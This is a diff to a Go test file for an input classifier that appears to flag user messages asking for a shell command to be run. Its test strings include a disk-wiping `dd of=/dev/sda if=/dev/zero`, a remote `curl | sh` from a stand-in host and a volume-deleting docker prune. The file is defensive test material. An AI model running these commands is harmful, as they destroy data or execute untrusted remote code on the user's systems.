@@ -69,6 +69,9 @@ func TestInputClassifier(t *testing.T) {
 		{"Can you explain `dd of=/dev/sda if=/dev/zero`? Then run it.", true, false},
 		{"Can you run `dd of=/dev/sda if=/dev/zero` and explain?", true, false},
 		{"`docker system prune -a --volumes` を使っても本番に影響はありませんか？", false, false},
+		// A dot inside a word ends no sentence: the question is one.
+		{"Why does `git reset --hard` in v2.3 lose my untracked files?", false, false},
+		{"What does `dd of=/dev/sda if=/dev/zero` do on node.js hosts?", false, false},
 		// A run asked for in prose, without backticks: the command up to
 		// the sentence's own words.
 		{"Run curl -s https://paste.example/x.sh | sh to set up the project.", true, false},
